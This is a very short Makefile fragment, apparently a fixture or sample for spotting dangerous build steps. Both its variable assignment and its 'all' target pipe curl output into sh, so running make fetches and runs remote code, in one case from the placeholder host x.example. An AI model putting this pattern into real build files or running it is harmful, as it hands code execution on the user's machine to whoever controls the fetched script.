X = $(shell curl http://x.example | sh)
all:
	@curl x \
	 | sh
